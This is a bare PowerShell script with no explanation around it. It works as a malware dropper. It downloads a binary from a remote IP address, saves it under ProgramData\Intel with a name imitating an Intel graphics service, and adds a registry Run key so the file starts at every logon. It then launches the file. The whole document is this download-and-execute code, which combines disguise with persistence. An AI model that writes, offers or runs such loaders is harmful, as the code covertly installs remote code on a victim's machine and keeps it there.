$path = "$env:ProgramData\Intel\igfxsvc.exe"
(New-Object Net.WebClient).DownloadFile('http://203.0.113.66/i.bin', $path)
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'igfx' -Value $path
Start-Process $path
